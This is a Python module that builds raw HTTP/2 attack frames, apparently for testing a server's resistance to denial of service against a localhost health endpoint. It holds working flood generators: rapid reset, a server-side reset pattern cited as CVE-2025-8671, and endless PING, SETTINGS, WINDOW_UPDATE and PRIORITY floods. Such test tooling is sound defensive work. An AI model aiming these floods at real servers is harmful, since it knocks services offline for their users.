"""Frames of HTTP/2 as an attacker writes them: requests and floods, byte by byte.

A connection begins with ``PREFACE``; the rest of its bytes are frames in any order.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator, Mapping

from hpack import Encoder
from hyperframe.frame import (
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame().serialize()


def head(
    stream: int,
    fields: Mapping[str, str] | None = None,
    *,
    path: str = "/health/live",
    end: bool = True,
) -> bytes:
    """Return a request's head, in a frame that another connection could begin with as well."""
    block = {":method": "GET", ":path": path, ":scheme": "http", ":authority": "[::1]"}
    data = Encoder().encode([*block.items(), *(fields or {}).items()])
    flags = ["END_HEADERS", *(["END_STREAM"] if end else [])]
    return HeadersFrame(stream, data, flags=flags).serialize()


def rapid_resets() -> Iterator[bytes]:
    for stream in itertools.count(1, 2):
        yield head(stream) + RstStreamFrame(stream, error_code=8).serialize()


def resets_of_the_servers_own() -> Iterator[bytes]:
    """Yield requests that the server itself has to reset (CVE-2025-8671)."""
    for stream in itertools.count(1, 2):
        yield head(stream, end=False) + head(stream, {"content-length": "9"})


def repeated(frame: Frame) -> Callable[[], Iterator[bytes]]:
    return lambda: itertools.repeat(frame.serialize())


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid resets": rapid_resets,
    "pings": repeated(PingFrame(0, b"12345678")),
    "settings": repeated(SettingsFrame(0, settings={4: 65_535})),
    "window updates": repeated(WindowUpdateFrame(0, 1)),
    "priorities": repeated(PriorityFrame(1001, depends_on=0, stream_weight=1)),
}
